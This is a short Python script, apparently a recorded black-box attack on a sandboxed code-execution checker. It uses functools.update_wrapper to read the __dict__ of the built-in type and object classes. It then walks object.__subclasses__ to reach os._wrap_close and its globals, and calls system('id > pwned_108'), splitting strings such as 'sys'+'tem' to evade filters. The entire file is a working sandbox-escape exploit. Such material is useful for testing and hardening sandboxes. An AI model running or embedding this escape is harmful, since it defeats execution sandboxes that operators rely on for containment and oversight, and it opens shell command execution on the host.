# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 1 update_wrapper/wraps copying __dict__
# source: own; classic ().__class__.__base__.__subclasses__() walk (HackTricks) with the dunders read through functools.update_wrapper
# family: stdlib helper reading a foreign __dict__ (type.__dict__) into a script-owned property
# goal: type.__subclasses__ -> os._wrap_close -> os.system('id')
import functools
import json
import pandas as pd


class Box:
    def __init__(self):
        self.items = {}

    @property
    def __dict__(self):
        return self.items


def table(obj):
    box = Box()
    functools.update_wrapper(box, obj)
    return box.items


u = chr(95) * 2
subs = table(type)[u + "subclasses" + u](object)
hit = None
for cls in subs:
    if cls.__name__ == "_wrap" + "_close":
        hit = cls
ginit = table(hit)[u + "init" + u]
ga = table(object)[u + "getattribute" + u]
g = ga(ginit, u + "globals" + u)
rc = g["sys" + "tem"]("id > pwned_108")
proof = pd.read_csv("pwned_108", header=None).iloc[0, 0]
print(json.dumps({"system_rc": rc, "proof": proof, "via": repr(hit)}))
